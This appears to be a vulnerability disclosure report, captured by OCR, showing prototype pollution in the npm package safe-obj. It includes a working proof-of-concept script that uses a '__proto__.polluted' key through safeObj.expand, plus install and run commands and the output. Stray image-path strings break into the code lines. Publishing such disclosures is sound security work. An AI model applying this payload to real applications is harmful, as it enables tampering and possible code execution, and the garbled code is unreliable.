Prototype Pollution in tandrewnichols/safe-obj


Reported on

Jan 30th 2021


safe-obj is vulnerable to Prototype Pollution.

Proof of Concept

  1. Create the following PoC file:
// poc.js
var safeObj = require("safe-obj")var obj = {};
console.log("Before: " + {}.polluted)
safeObj.expand(obj, "__proto__.polluted", true)
console.log("After: " + {}.polluted)
  1. Execute the following commands in theterminal:
npm i safe-obj # install vulnerable package
node poc.js # run the PoC
  1. Check the output:
Before: undefined
After: true


Prototype Pollution leads to InformationDisclosure/DoS/RCE.

to join this conversation